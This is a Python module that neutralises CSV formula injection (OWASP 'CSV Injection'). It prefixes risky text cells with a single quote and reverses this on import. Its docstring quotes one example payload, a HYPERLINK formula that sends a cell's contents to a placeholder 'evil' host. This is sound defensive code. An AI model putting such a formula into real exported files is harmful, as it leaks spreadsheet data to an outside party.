"""CSV cells a spreadsheet would run as formulas are written as text (OWASP "CSV Injection").

A claim's quote, notes or outlet come from news reports and other parties, so a cell such as
`=HYPERLINK("http://evil/?"&A1,"click")` must not reach a spreadsheet as a formula. A text cell
starting with `=`, `+`, `-`, `@`, a tab or a carriage return is written with a single quote in
front, which spreadsheets show as text. A cell that already starts with a quote gets one more, so
`truce import` can take exactly one off and read back what was exported. Numbers are written
as numbers and never touched (the quantity column stays numeric, negative or not).
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def neutralise(cell: str) -> str:
    if cell.startswith((*FORMULA_STARTS, QUOTE)):
        return QUOTE + cell
    return cell


def restore(cell: str) -> str:
    """The text `neutralise` was given."""
    if cell.startswith(QUOTE) and cell[1:].startswith((*FORMULA_STARTS, QUOTE)):
        return cell[1:]
    return cell
